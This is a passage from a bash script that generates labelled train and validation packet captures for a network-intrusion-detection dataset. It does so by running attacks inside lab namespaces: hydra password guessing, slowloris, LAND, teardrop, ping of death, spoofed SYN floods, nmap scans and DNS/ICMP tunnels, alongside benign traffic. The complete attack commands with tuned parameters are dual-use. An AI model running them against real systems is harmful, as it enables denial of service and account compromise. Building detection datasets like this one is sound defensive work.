    cap_stop
  done
fi

# HTTP directory brute force, mostly 404: train -> 450 paths, one curl (new connection) per
# path, from 127.0.0.66 to :80; validation -> 340 paths in keep-alive batches of 1-8 paths per
# connection, from 127.0.0.67 to :8080. Background: page views from 127.0.0.47/48.
if scenario dirbrute curl nginx; then
  RANDOM=2201
  cap_start train dirbrute
  ( for k in 1 2 3 4 5; do web_visit 127.0.0.47 http://127.0.0.1; sleep 1.5; done ) & b=$!
  nsx timeout 150 bash -c 'while read -r p; do curl -s -o /dev/null --max-time 5 --interface 127.0.0.66 -A "Mozilla/5.0 (dirb)" "http://127.0.0.1/$p"; done' < "$WORK/path450.txt" || true
  wait $b || true
  cap_stop
  RANDOM=2202
  cap_start validation dirbrute
  ( for k in 1 2 3 4; do web_visit 127.0.0.48 http://127.0.0.1:8080; sleep 1.5; done ) & b=$!
  nsx timeout 150 bash -c 'RANDOM=77; mapfile -t P; i=0; while ((i < ${#P[@]})); do n=$((1 + RANDOM % 8)); urls=(); for p in "${P[@]:i:n}"; do urls+=("http://127.0.0.1:8080/$p"); done; curl -s -o /dev/null --max-time 10 --interface 127.0.0.67 -A "gobuster/3.5" "${urls[@]}" >/dev/null 2>&1; i=$((i + n)); sleep 0.0$((RANDOM % 5)); done' < "$WORK/path340.txt" || true
  wait $b || true
  cap_stop
fi

# Slowloris (slowhttptest -H): many connections each sending a partial request header and a
# header line every -i seconds, test length -l. From 127.0.0.1; background page views from
# 127.0.0.49 to the other server (127.0.0.21).
if scenario slowloris slowhttptest nginx; then
  RANDOM=2301
  cap_start train slowloris
  ( for k in 1 2 3; do web_visit 127.0.0.49 http://127.0.0.21; sleep 3; done ) & b=$!
  nsx timeout 60 slowhttptest -H -c 150 -r 50 -i 10 -l 35 -x 24 -p 3 -u http://127.0.0.1/index.html >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
  RANDOM=2302
  cap_start validation slowloris
  ( for k in 1 2 3; do web_visit 127.0.0.49 http://127.0.0.21; sleep 3; done ) & b=$!
  nsx timeout 60 slowhttptest -H -c 90 -r 15 -i 6 -l 30 -x 10 -p 2 -u http://127.0.0.1:8080/page3.html >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
fi

# Malformed packets (KDD land / teardrop / pod). LAND: hping3 TCP SYNs whose source address and
# port equal the destination's (-a X -s P -k -p P X), open and closed ports; on loopback hping3's
# -c counts every packet it sees there (its own SYN and the answers), so about c/2 SYNs go to a
# closed port (SYN, RST) and c/3 to an open one (SYN, SYN-ACK, RST); across
# the veth the victim (nadlab-b) drops a packet with its own address as source (martian) and
# nothing answers. Teardrop and ping of death: `tools.py teardrop` / `tools.py pod` (raw IPv4
# socket): overlapping UDP fragments (SHAPE = OFF:LEN:MF,... in bytes), and ICMP echo requests of
# 65528 + TAIL bytes cut into FRAG-byte fragments up to offset 65528 (the kernel drops them;
# what matters is what the capture sees). Background: page views, DNS lookups, normal pings.
# land_lo TARGET SPEC...: SPEC = PORT:COUNT:INTERVAL (hping3 -c / -i), on loopback (nadlab).
land_lo() {
  local t=$1 spec p c i; shift
  for spec in "$@"; do
    IFS=: read -r p c i <<<"$spec"
    nsx timeout 20 hping3 -q -S -a "$t" -s "$p" -k -p "$p" -c "$c" -i "$i" "$t" >/dev/null 2>&1 || true
    sleep 1.5
  done
}
# LAND SYNs to open ports of 127.0.0.1 leave half-open self-connections whose SYN-ACKs the
# kernel retransmits for about a minute: let them die out before the next capture.
syn_recv_drain() { for _ in $(seq 90); do [ "$("$@" ss -Htn state syn-recv | wc -l)" = 0 ] && break; sleep 1; done; }
if scenario land hping3; then
  RANDOM=4101
  cap_start train land
  ( for k in 1 2 3; do web_visit 127.0.0.59 http://127.0.0.1; sleep 2; done ) & b=$!
  land_lo 127.0.0.1 80:20:u40000 22:14:u70000 139:18:u30000 3306:12:u100000   # open, open, closed, closed
  wait $b || true
  cap_stop
  syn_recv_drain nsx
  cap_start validation land "$NSA" va
  ( for p in index.html page5.html page11.html api.json; do
      nsa curl -s -o /dev/null --max-time 10 --interface 169.254.77.6 "http://169.254.77.2:8099/$p" >/dev/null 2>&1 || true; sleep 1.5; done ) &
  b=$!
  for spec in 22:6:u200000 8099:5:u250000 23:4:u300000 25:6:u150000 110:5:u200000 445:4:u350000; do
    IFS=: read -r p c i <<<"$spec"
    nsa timeout 20 hping3 -q -S -I va -a 169.254.77.2 -s "$p" -k -p "$p" -c "$c" -i "$i" 169.254.77.2 >/dev/null 2>&1 || true
    sleep 1
  done
  wait $b || true
  cap_stop
fi
# Teardrop: train 30 datagrams 127.0.0.1 -> 127.0.0.2:53 (closed), source ports 31000+, the
# second fragment inside the first (teardrop.c: 0:36 MF, then 24:4 last), 80 ms apart;
# validation 24 datagrams from a spoofed 127.0.0.91 to 127.0.0.6, random source and destination
# ports, the second fragment overlapping the first's last 16 bytes and reaching beyond it
# (0:64 MF, 48:40 last), 150 ms apart. Background: DNS lookups from 127.0.0.59.
if scenario teardrop; then
  cap_start train teardrop
  ( for n in www git wiki mail nas cdn; do nsx dig +tries=1 +time=1 -b 127.0.0.59 @127.0.0.53 "$n.lab.example" >/dev/null 2>&1 || true; sleep 0.6; done ) & b=$!
  nsx timeout 30 $PY "$TOOLS" teardrop 127.0.0.1 127.0.0.2 30 0.08 4201 0:36:1,24:4:0 31000+ 53 || true
  wait $b || true
  cap_stop
  cap_start validation teardrop
  ( for n in intranet files jira ci; do nsx dig +tries=1 +time=1 -b 127.0.0.59 @127.0.0.53 "$n.lab.example" >/dev/null 2>&1 || true; sleep 0.9; done ) & b=$!
  nsx timeout 30 $PY "$TOOLS" teardrop 127.0.0.91 127.0.0.6 24 0.15 4202 0:64:1,48:40:0 rand rand || true
  wait $b || true
  cap_stop
fi
# Ping of death: train 6 echoes 127.0.0.1 -> 127.0.0.3 of 65528 + 1000 bytes in 1480-byte
# fragments (46 each), in order, 0.8 s apart; background 5 normal pings and 2 of 20,000 bytes
# 127.0.0.59 -> 127.0.0.1. Validation across the veth: 4 echoes 169.254.77.1 -> 169.254.77.2 of
# 65528 + 472 bytes in 1232-byte fragments (55 each), last fragment first, 1.5 s apart;
# background 4 normal pings and 2 of 3,000 bytes (fragmented, well formed) from 169.254.77.5.
if scenario ping_of_death ping; then
  cap_start train ping_of_death
  ( nsx timeout 20 ping -q -c 5 -i 0.5 -I 127.0.0.59 127.0.0.1 >/dev/null 2>&1 || true
    nsx timeout 20 ping -q -c 2 -i 1 -s 20000 -I 127.0.0.59 127.0.0.1 >/dev/null 2>&1 || true ) & b=$!
  nsx timeout 30 $PY "$TOOLS" pod 127.0.0.1 127.0.0.3 6 0.8 4301 1480 1000 fwd || true
  wait $b || true
  cap_stop
  cap_start validation ping_of_death "$NSA" va
  ( nsa timeout 20 ping -q -c 4 -i 0.7 -I 169.254.77.5 169.254.77.2 >/dev/null 2>&1 || true
    nsa timeout 20 ping -q -c 2 -i 1 -s 3000 -I 169.254.77.5 169.254.77.2 >/dev/null 2>&1 || true ) & b=$!
  nsa timeout 30 $PY "$TOOLS" pod 169.254.77.1 169.254.77.2 4 1.5 4302 1232 472 rev || true
  wait $b || true
  cap_stop
fi

# Tunnels, across the veth pair (client in nadlab-a, server in nadlab-b), captured on va.
# Each moves one bounded file through the tunnel from the HTTP server of nadlab-b (:8099).
# (Background jobs are started with `ip netns exec` itself, not the nsa/nsb functions, so that
# $! is the tool's own pid.) wait_for COUNT CMD...: poll until CMD succeeds (COUNT half-seconds).
wait_for() { local n=$1; shift; for _ in $(seq "$n"); do "$@" >/dev/null 2>&1 && return 0; sleep 0.5; done; return 1; }
iodine_run() {  # DIR DOMAIN PASSWORD FILE CLIENTOPTS...
  local dir=$1 dom=$2 pw=$3 file=$4; shift 4
  cap_start "$dir" tunnel_dns_iodine "$NSA" va
  ip netns exec "$NSB" timeout 120 iodined -f -c -P "$pw" -l 169.254.77.2 -p 53 169.254.99.1/27 "$dom" >>"$WORK/bg.log" 2>&1 & local s=$!
  sleep 1
  ip netns exec "$NSA" timeout 100 iodine -f -r -P "$pw" "$@" 169.254.77.2 "$dom" >>"$WORK/bg.log" 2>&1 & local c=$!
  if wait_for 60 nsa sh -c 'ip -4 addr show | grep -q "169.254.99"'; then
    nsa curl -s -o /dev/null -w "  tunnel transfer: HTTP %{http_code}, %{size_download} bytes\n" --max-time 60 "http://169.254.99.1:8099/$file" >&2 || true
    sleep 2
  else echo "iodine tunnel did not come up" >&2; fi
  stop_pids $c $s
  cap_stop
}
if scenario tunnel_dns_iodine iodine iodined; then
  iodine_run train      t1.lab.example 'iod-lab-pw1' blob48k.bin
  iodine_run validation v9.tun.example 'iod-lab-pw2' blob24k.bin -T TXT -O Base32 -M 180 -I 1
fi
dns2tcp_run() {  # DIR DOMAIN FILE TYPE
  cap_start "$1" tunnel_dns_dns2tcp "$NSA" va
  printf 'listen = 169.254.77.2\nport = 53\nuser = nobody\ndomain = %s\nresources = web:127.0.0.1:8099\n' "$2" > "$WORK/dns2tcpd.conf"
  ip netns exec "$NSB" timeout 120 dns2tcpd -F -d 1 -f "$WORK/dns2tcpd.conf" >>"$WORK/bg.log" 2>&1 & local s=$!
  sleep 1
  ip netns exec "$NSA" timeout 100 dns2tcpc -z "$2" -r web -l 8098 -T "$4" 169.254.77.2 >>"$WORK/bg.log" 2>&1 & local c=$!
  sleep 2
  nsa curl -s -o /dev/null -w "  tunnel transfer: HTTP %{http_code}, %{size_download} bytes\n" --max-time 60 "http://127.0.0.1:8098/$3" >&2 || true
  sleep 2
  stop_pids $c $s
  cap_stop
}
if scenario tunnel_dns_dns2tcp dns2tcpd dns2tcpc; then
  dns2tcp_run train      d2.lab.example   blob24k.txt TXT
  dns2tcp_run validation x7.tunnel.example blob16k.bin KEY
fi
ptunnel_run() {  # DIR LOCALPORT FILE CLIENTOPTS...
  local dir=$1 lport=$2 file=$3; shift 3
  cap_start "$dir" tunnel_icmp_ptunnel "$NSA" va
  nsb sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  ip netns exec "$NSB" timeout 120 ptunnel-ng -v 0 -r127.0.0.1 -R8099 "$@" >>"$WORK/bg.log" 2>&1 & local s=$!
  sleep 1
  ip netns exec "$NSA" timeout 100 ptunnel-ng -v 0 -p169.254.77.2 -l"$lport" -r127.0.0.1 -R8099 "$@" >>"$WORK/bg.log" 2>&1 & local c=$!
  sleep 2
  nsa curl -s -o /dev/null -w "  tunnel transfer: HTTP %{http_code}, %{size_download} bytes\n" --max-time 60 "http://127.0.0.1:$lport/$file" >&2 || true
  sleep 2
  stop_pids $c $s
  nsb sysctl -qw net.ipv4.icmp_echo_ignore_all=0
  cap_stop
}
if scenario tunnel_icmp_ptunnel ptunnel-ng; then
  ptunnel_run train      8097 blob64k.bin
  ptunnel_run validation 8096 blob32k.bin -P lab-tunnel-pw -w 16
fi

# ========================================================================= BENIGN ======
# DNS: many lookups (A, AAAA, MX, TXT, PTR, unknown names -> NXDOMAIN, a few over TCP) from
# several clients to the local resolver (dnsmasq on 127.0.0.53).
dns_run() {  # DIR N SEED SRCBASE
  local names=(www mail smtp imap vpn git wiki intranet files print1 print2 cam1 nas backup ldap
               jira ci build cdn api auth sso proxy db1 db2 fw nothere old-server test42 laptop7)
  local types=(A A A A AAAA AAAA MX TXT A A) k n t
  RANDOM=$3
  cap_start "$1" benign_dns
  for k in $(seq "$2"); do
    n=${names[RANDOM % ${#names[@]}]}; t=${types[RANDOM % ${#types[@]}]}
    case $((RANDOM % 12)) in
      0) nsx dig +tries=1 +time=1 -b 127.0.0.$(($4 + k % 5)) @127.0.0.53 -x 192.0.2.$((RANDOM % 230 + 20)) >/dev/null 2>&1 || true ;;
      1) nsx dig +tcp +tries=1 +time=2 -b 127.0.0.$(($4 + k % 5)) @127.0.0.53 "$n.lab.example" $t >/dev/null 2>&1 || true ;;
      2) nsx dig +tries=1 +time=1 -b 127.0.0.$(($4 + k % 5)) @127.0.0.53 "$n.example.org" $t >/dev/null 2>&1 || true ;;
      *) nsx dig +tries=1 +time=1 -b 127.0.0.$(($4 + k % 5)) @127.0.0.53 "$n.lab.example" $t >/dev/null 2>&1 || true ;;
    esac
    sleep 0.$((RANDOM % 4))
  done
  cap_stop
}
if scenario benign_dns dig dnsmasq; then
  dns_run train 180 3101 10
  dns_run validation 130 3102 20
fi

# HTTP browsing: keep-alive page views (curl), HTTP/1.0-style servers that close after every
# reply (127.0.0.21), `Connection: close` requests, a page with many resources loaded by
# `wget -p` (gallery: 2 CSS, 2 JS, 36 images), a 300 KB download.
web_run() {  # DIR VISITS SEED SRCBASE PORT
  RANDOM=$3
  cap_start "$1" benign_web
  local k src
  for k in $(seq "$2"); do
    src=127.0.0.$(($4 + k % 6))
    case $((k % 5)) in
      0) web_visit "$src" http://127.0.0.21 ;;
      1) nsx curl -s -o /dev/null --max-time 10 --interface "$src" -H 'Connection: close' "http://127.0.0.1:$5/${PAGES[RANDOM % 13]}" || true ;;
      *) web_visit "$src" "http://127.0.0.1:$5" ;;
    esac
    ((k % 9 == 4)) && { nsx wget -q -p -P "$WORK/wget" --bind-address="$src" --timeout=10 "http://127.0.0.1:$5/gallery.html" || true; rm -rf "$WORK/wget"; }
    sleep 0.$((RANDOM % 9 + 1))
  done
  nsx curl -s -o /dev/null --max-time 10 --interface 127.0.0.$(($4 + 1)) "http://127.0.0.1:$5/big.bin" || true
  cap_stop
}
if scenario benign_web curl wget nginx; then
  web_run train 30 3201 10 80
  web_run validation 22 3202 30 8080
fi

# HTTPS: nginx TLS on 443 (keep-alive page views) and `openssl s_server -WWW` on 8443, curl -k;
# one page view with the connection left idle at the end (hold: curl keeps nothing, so a
# keep-alive TLS connection is opened with openssl s_client and left open).
https_run() {  # DIR VISITS SEED SRCBASE
  RANDOM=$3
  cap_start "$1" benign_https
  local k src
  for k in $(seq "$2"); do
    src=127.0.0.$(($4 + k % 5))
    if ((k % 4 == 3)); then
      nsx curl -sk -o /dev/null --max-time 10 --interface "$src" "https://127.0.0.1:8443/${PAGES[RANDOM % ${#PAGES[@]}]}" || true
    else
      web_visit "$src" https://127.0.0.1 -k
    fi
    sleep 0.$((RANDOM % 9 + 1))
  done
  # (timeout leads its own process group, so stopping it stops the whole pipeline)
  bgh "$NS" timeout 70 sh -c "(printf 'GET /index.html HTTP/1.1\r\nHost: lab.example\r\n\r\n'; sleep 60) | openssl s_client -quiet -connect 127.0.0.1:443"
  sleep 3
  cap_stop 0.5
  stop_holds
}
if scenario benign_https curl nginx; then
  https_run train 20 3301 30
  https_run validation 15 3302 35
fi

# SSH: interactive sessions (typed keystrokes in a pty), remote commands, scp up and down
# (key login), one password login after one mistyped password, a session still open at the end.
ssh_askpass() {  # writes an SSH_ASKPASS helper: a wrong password first, then the right one
  cat >"$WORK/askpass.sh" <<EOF
#!/bin/sh
f=$WORK/askpass.count; n=\$(cat \$f 2>/dev/null || echo 0); echo \$((n + 1)) > \$f
if [ "\$n" = 0 ]; then echo '$1'; else echo '$LABPASS'; fi
EOF
  chmod 755 "$WORK/askpass.sh"; rm -f "$WORK/askpass.count"
}
ssh_run() {  # DIR SEED SRC PORT TYPO
  RANDOM=$2
  cap_start "$1" benign_ssh
  local src=$3 port=$4
  { sleep 1.5; type_slowly 'ls -la'; sleep 1; type_slowly 'cat /etc/os-release'; sleep 1.2
    type_slowly 'df -h | head -5'; sleep 0.8; type_slowly 'echo done'; sleep 0.5; type_slowly 'exit'; sleep 1; } |
    nsx timeout 60 "${SSH[@]}" -tt -b "$src" -p "$port" $LABUSER@127.0.0.1 >/dev/null 2>&1 || true
  nsx timeout 30 "${SCP[@]}" -o BindAddress="$src" -P "$port" "$WORK/notes.txt" $LABUSER@127.0.0.1:notes-up.txt >/dev/null 2>&1 || true
  nsx timeout 30 "${SCP[@]}" -o BindAddress="$src" -P "$port" "$LABUSER@127.0.0.1:$WORK/www/js/app.js" "$WORK/dl.js" >/dev/null 2>&1 || true
  nsx timeout 30 "${SSH[@]}" -b "$src" -p "$port" $LABUSER@127.0.0.1 'uname -a; uptime; ls | wc -l' >/dev/null 2>&1 || true
  ssh_askpass "$5"
  nsx env SSH_ASKPASS="$WORK/askpass.sh" SSH_ASKPASS_REQUIRE=force DISPLAY=:0 timeout 30 \
    ssh "${SSHO[@]}" -o PubkeyAuthentication=no -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3 \
    -b "$src" -p "$port" $LABUSER@127.0.0.1 'id; sleep 1; date' </dev/null >/dev/null 2>&1 || true
  bgh "$NS" timeout 70 "${SSH[@]}" -b "$src" -p "$port" $LABUSER@127.0.0.1 'echo start; sleep 60'
  sleep 3
  cap_stop 0.5
  stop_holds
  rm -f "$WORK/home/notes-up.txt" "$WORK/dl.js"
}
if scenario benign_ssh sshd ssh scp; then
  ssh_run train 3401 127.0.0.50 22 'Lab-pass-4171'
  ssh_run validation 3402 127.0.0.51 2222 'lab-pass-4711'
fi

# FTP: successful sessions (login, LIST, RETR, some STOR; passive data connections), an lftp
# session, one login after one mistyped password.
ftp_run() {  # DIR PORT SESSIONS SEED SRC
  cap_start "$1" benign_ftp
  nsx timeout 60 $PY "$TOOLS" ftp-good 127.0.0.1 "$2" "$3" "$4" "$5" || true
  nsx timeout 30 $PY "$TOOLS" ftp-typo 127.0.0.1 "$2" "$4" "$5" || true
  have lftp && { nsx timeout 30 lftp -u alice,s3cret-Pass -e "set net:socket-bind-ipv4 $5; ls; get -O $WORK report2.txt; bye" -p "$2" 127.0.0.1 >/dev/null 2>&1 || true; rm -f "$WORK/report2.txt"; }
  cap_stop
}
if scenario benign_ftp; then
  ftp_run train 21 5 3501 127.0.0.52
  ftp_run validation 2121 3 3502 127.0.0.53
fi

# Mail and time: SMTP sessions (swaks and Python smtplib) to a local aiosmtpd sink, NTP queries
# (sntp and a Python client) to the local NTP responder.
mail_ntp_run() {  # DIR SWAKS SMTPLIB NTP SEED SRC
  RANDOM=$5
  cap_start "$1" benign_mail_ntp
  local k
  for k in $(seq "$2"); do
    have swaks && { nsx timeout 20 swaks --server 127.0.0.25 --port 25 --local-interface "$6" --to "user$k@lab.example" \
      --from "reports@lab.example" --header "Subject: build $RANDOM finished" --body "build log $k" >/dev/null 2>&1 || true; }
    ((k % 2 == 0)) && { have sntp && nsx timeout 10 sntp -t 2 127.0.0.123 >/dev/null 2>&1 || true; }
    sleep 0.$((RANDOM % 9 + 1))
  done
  nsx timeout 60 $PY "$TOOLS" smtp-client 127.0.0.25 25 "$3" "$5" "$6" || true
  nsx timeout 30 $PY "$TOOLS" ntp-client 127.0.0.123 123 "$4" 0.4 || true
  cap_stop
}
if scenario benign_mail_ntp; then
  mail_ntp_run train 8 6 10 3601 127.0.0.54
  mail_ntp_run validation 6 4 7 3602 127.0.0.55
fi

# Mixed office traffic at the same time, with idle connections open at the end: keep-alive
# HTTP (hold-http s1), an HTTP/1.0 connection the client never closed (s3), an SSH session,
# an FTP control connection sitting idle.
mixed_run() {  # DIR SEED SRCBASE SCALE
  RANDOM=$2
  cap_start "$1" benign_mixed
  local M=() b=$3 s=$4
  ( for k in $(seq $((4 * s))); do web_visit 127.0.0.$((b + k % 3)) http://127.0.0.1; sleep 0.5; done ) & M+=($!)
  ( for k in $(seq $((2 * s))); do web_visit 127.0.0.$((b + 3)) https://127.0.0.1 -k; sleep 0.9; done ) & M+=($!)
  ( for k in $(seq $((8 * s))); do nsx dig +tries=1 +time=1 -b 127.0.0.$((b + k % 4)) @127.0.0.53 "$( (echo www; echo git; echo wiki; echo mail) | sed -n $((k % 4 + 1))p).lab.example" >/dev/null 2>&1 || true; sleep 0.3; done ) & M+=($!)
  ( nsx timeout 30 "${SSH[@]}" -b 127.0.0.$((b + 4)) $LABUSER@127.0.0.1 'for i in 1 2 3; do date; sleep 1; done' >/dev/null 2>&1 || true ) & M+=($!)
  ( nsx timeout 60 $PY "$TOOLS" ftp-good 127.0.0.1 21 "$s" "$2" 127.0.0.$((b + 5)) >/dev/null 2>&1 || true ) & M+=($!)
  ( nsx timeout 30 $PY "$TOOLS" smtp-client 127.0.0.25 25 "$s" "$2" 127.0.0.$((b + 2)) >/dev/null 2>&1 || true ) & M+=($!)
  ( nsx timeout 30 $PY "$TOOLS" ntp-client 127.0.0.123 123 $((2 * s)) 0.8 || true ) & M+=($!)
  for p in "${M[@]}"; do wait "$p" || true; done
  bgh "$NS" timeout 70 $PY "$TOOLS" hold-http 127.0.0.1 80 s1 $((1 + s)) 127.0.0.$((b + 1))
  bgh "$NS" timeout 70 $PY "$TOOLS" hold-http 127.0.0.21 80 s3 "$s" 127.0.0.$((b + 2))
  bgh "$NS" timeout 70 "${SSH[@]}" -b 127.0.0.$((b + 4)) $LABUSER@127.0.0.1 'sleep 60'
  bgh "$NS" timeout 70 $PY -c "import ftplib,time;f=ftplib.FTP();f.connect('127.0.0.1',21,source_address=('127.0.0.$((b + 5))',0));f.login('alice','s3cret-Pass');f.pwd();time.sleep(60)"
  sleep 4
  cap_stop 0.5
  stop_holds
}
if scenario benign_mixed dig; then
  mixed_run train 3701 60 3
  mixed_run validation 3702 70 2
fi

# ================================================================ SECOND TRAIN RUNS ======
# `NAME_2` -> fixtures/lab/train/NAME_2.pcap.gz: a third, independent run of nine attack
# scenarios and two benign ones, for training only (more independent training runs per attack
# kind; validation is unchanged). Parameters differ from both other runs; several run across
# the veth pair (attacker 169.254.77.1 in nadlab-a, servers in nadlab-b, captured on va) for
# non-loopback addressing and timing, with benign clients / background on 169.254.77.5-7.
# Parameters were fixed before generation and not adjusted after looking at any result.
# scp here uses the legacy protocol (-O): sshd_conf has no `Subsystem sftp`, so OpenSSH 9's
# default SFTP-based scp logs in and then fails without moving the file (as in benign_ssh).
SCPO=("${SCP[@]}" -O)

# SSH guessing across the veth: hydra 169.254.77.1 -> sshd 169.254.77.2:22 (nadlab-b), 48
# passwords, 6 tasks, -w 5. Background: a key login and an scp from 169.254.77.5.
if scenario bruteforce_ssh_2 hydra sshd ssh scp; then
  cap_start train bruteforce_ssh_2 "$NSA" va
  ( sleep 3; nsa "${SSH[@]}" -b 169.254.77.5 $LABUSER@169.254.77.2 'hostname; df -h | head -3' >/dev/null 2>&1 || true
    sleep 4; nsa timeout 30 "${SCPO[@]}" -o BindAddress=169.254.77.5 "$LABUSER@169.254.77.2:$WORK/www/page4.html" "$WORK/dl4.html" >/dev/null 2>&1 || true ) &
  b=$!
  nsa timeout 150 hydra -l $LABUSER -P "$WORK/pass48.txt" -t 6 -w 5 -I -q -o /dev/null ssh://169.254.77.2:22 >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
  rm -f "$WORK/dl4.html"
fi
# FTP guessing on loopback to another server address and port: hydra -> pyftpdlib on
# 127.0.0.31:2021, 90 passwords, 2 tasks. Background: 2 FTP sessions from 127.0.0.56.
if scenario bruteforce_ftp_2 hydra; then
  cap_start train bruteforce_ftp_2
  ( sleep 3; nsx $PY "$TOOLS" ftp-good 127.0.0.31 2021 2 3503 127.0.0.56 >/dev/null 2>&1 || true ) &
  b=$!
  nsx timeout 150 hydra -l alice -P "$WORK/pass90.txt" -t 2 -I -q -o /dev/null ftp://127.0.0.31:2021 >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
fi
# Telnet guessing across the veth: hydra 169.254.77.1 -> telnetd (inetutils-inetd in nadlab-b)
# on 169.254.77.2:23, 26 passwords, 6 tasks, -w 5, bounded at 150 s. No background.
if scenario bruteforce_telnet_2 hydra inetutils-inetd telnetd; then
  cap_start train bruteforce_telnet_2 "$NSA" va
  nsa timeout 150 hydra -l $LABUSER -P "$WORK/pass26.txt" -t 6 -w 5 -I -q -o /dev/null telnet://169.254.77.2:23 >/dev/null 2>&1 || true
  cap_stop
fi
# HTTP basic-auth guessing on loopback: hydra -> nginx 127.0.0.1:8008 /staff/ (user jsmith),
# 100 passwords, 2 tasks. Background: 4 page views from 127.0.0.56 to the same server.
if scenario bruteforce_http_basic_2 hydra nginx; then
  RANDOM=2401
  cap_start train bruteforce_http_basic_2
  ( for k in 1 2 3 4; do web_visit 127.0.0.56 http://127.0.0.1:8008; sleep 1.5; done ) &
  b=$!
  nsx timeout 150 hydra -l jsmith -P "$WORK/pass100.txt" -t 2 -I -q -o /dev/null -s 8008 127.0.0.1 http-get /staff/ >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
fi
# Slowloris against the server without keep-alive (127.0.0.21:80): more connections, faster
# ramp-up, shorter header interval and test. Background: page views 127.0.0.57 -> 127.0.0.1:80.
if scenario slowloris_2 slowhttptest nginx; then
  RANDOM=2303
  cap_start train slowloris_2
  ( for k in 1 2 3; do web_visit 127.0.0.57 http://127.0.0.1; sleep 3; done ) & b=$!
  nsx timeout 60 slowhttptest -H -c 220 -r 80 -i 4 -l 25 -x 40 -p 4 -u http://127.0.0.21/page7.html >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
fi
# Spoofed SYN flood across the veth: hping3 --rand-source from nadlab-a to sshd 169.254.77.2:22
# (nadlab-b has no route back to the random sources, so nothing answers on the wire).
# Background: page views 169.254.77.6 -> the HTTP server 169.254.77.2:8099.
if scenario synflood_spoofed_2 hping3; then
  cap_start train synflood_spoofed_2 "$NSA" va
  ( for p in index.html page2.html page9.html gallery.html; do
      nsa curl -s -o /dev/null --max-time 10 --interface 169.254.77.6 "http://169.254.77.2:8099/$p" "http://169.254.77.2:8099/css/site.css" >/dev/null 2>&1 || true; sleep 1; done ) &
  b=$!
  nsa timeout 30 hping3 -q -S --rand-source -I va -p 22 -c 2200 -i u900 169.254.77.2 >/dev/null 2>&1 || true
  wait $b || true
  cap_stop
  for _ in $(seq 90); do [ "$(nsb ss -Htn state syn-recv | wc -l)" = 0 ] && break; sleep 1; done
fi
# Ping sweep of a third /24 (4 hosts alive): ICMP echo and timestamp, -T5, one retry.
if scenario ping_sweep_2 nmap; then
  cap_start train ping_sweep_2 "$NSA" va
  nsa timeout 120 nmap -sn -n -PE -PP -T5 --max-retries 1 169.254.80.0/24 >/dev/null 2>&1 || true
  cap_stop
fi
# Directory brute force, 300 other paths, 4 in parallel (xargs -P 4, one curl per path),
# 127.0.0.68 -> the server without keep-alive (127.0.0.21:80), ffuf's user agent.
# Background: page views 127.0.0.58 -> 127.0.0.1:80.
if scenario dirbrute_2 curl nginx; then
  RANDOM=2203
  cap_start train dirbrute_2
  ( for k in 1 2 3 4; do web_visit 127.0.0.58 http://127.0.0.1; sleep 1.5; done ) & b=$!
  nsx timeout 150 xargs -P 4 -I{} curl -s -o /dev/null --max-time 5 --interface 127.0.0.68 -A "Fuzz Faster U Fool v2.1.0" "http://127.0.0.21/{}" < "$WORK/path300.txt" || true
  wait $b || true
  cap_stop
fi
# UDP scan of the resolver's address (dnsmasq on 127.0.0.53:53, everything else closed), -T3,
# 184 ports, two retries, from 127.0.0.68.
if scenario scan_udp_2 nmap; then
  cap_start train scan_udp_2
  nsx timeout 120 nmap -sU -Pn -n -T3 -p 20-180,500-520,1900,5353 --max-retries 2 --host-timeout 100s -S 127.0.0.68 -e lo 127.0.0.53 >/dev/null 2>&1 || true
  cap_stop
fi
# LAND on loopback to two other targets: 127.0.0.21 (nginx :80 open, :443 closed there) and
# 127.0.0.25 (aiosmtpd :25 open, :587 closed). Background from 127.0.0.59: 3 pings and a page
# view to 127.0.0.21.
if scenario land_2 hping3; then
  RANDOM=4103
  cap_start train land_2
  ( nsx timeout 10 ping -q -c 3 -i 0.8 -I 127.0.0.59 127.0.0.21 >/dev/null 2>&1 || true
    web_visit 127.0.0.59 http://127.0.0.21 ) & b=$!
  land_lo 127.0.0.21 80:22:u25000 443:16:u50000
  land_lo 127.0.0.25 25:14:u60000 587:12:u90000
  wait $b || true
  cap_stop
  syn_recv_drain nsx
fi
# Teardrop across the veth: 40 datagrams 169.254.77.1 -> 169.254.77.2:1434 (closed), source
# ports 44000+, three fragments each (0:48 MF, 40:24 MF overlapping it, 16:8 last inside the
# first), 50 ms apart. Background: 3 page views and 3 pings from 169.254.77.5.
if scenario teardrop_2 curl; then
  cap_start train teardrop_2 "$NSA" va
  ( for p in page3.html gallery.html page8.html; do
      nsa curl -s -o /dev/null --max-time 10 --interface 169.254.77.5 "http://169.254.77.2:8099/$p" >/dev/null 2>&1 || true; sleep 0.8; done
    nsa timeout 10 ping -q -c 3 -i 0.5 -I 169.254.77.5 169.254.77.2 >/dev/null 2>&1 || true ) & b=$!
  nsa timeout 30 $PY "$TOOLS" teardrop 169.254.77.1 169.254.77.2 40 0.05 4203 0:48:1,40:24:1,16:8:0 44000+ 1434 || true
  wait $b || true
  cap_stop
fi
# Ping of death on loopback with jumbo fragments: 5 echoes from a spoofed 127.0.0.92 to
# 127.0.0.1 of 65528 + 8 bytes (65,556-byte datagram) in 8192-byte fragments (9 each), in order,
# 0.5 s apart. Background: 4 normal pings 127.0.0.59 -> 127.0.0.21.
if scenario ping_of_death_2 ping; then
  cap_start train ping_of_death_2
  ( nsx timeout 10 ping -q -c 4 -i 0.6 -I 127.0.0.59 127.0.0.21 >/dev/null 2>&1 || true ) & b=$!
  nsx timeout 30 $PY "$TOOLS" pod 127.0.0.92 127.0.0.1 5 0.5 4303 8192 8 fwd || true
  wait $b || true
  cap_stop
fi
# Benign SSH across the veth (the legitimate counterpart of bruteforce_ssh_2): three clients
# 169.254.77.5/.6/.7 -> sshd 169.254.77.2:22: key logins with commands, scp up and down, a
# short interactive session, two password logins after one mistyped password each.
if scenario benign_ssh_2 sshd ssh scp; then
  RANDOM=3403
  cap_start train benign_ssh_2 "$NSA" va
  nsa timeout 30 "${SSH[@]}" -b 169.254.77.5 $LABUSER@169.254.77.2 'uname -a; uptime' >/dev/null 2>&1 || true
  sleep 1.$((RANDOM % 9))
  ssh_askpass 'Lab-pass-4712'
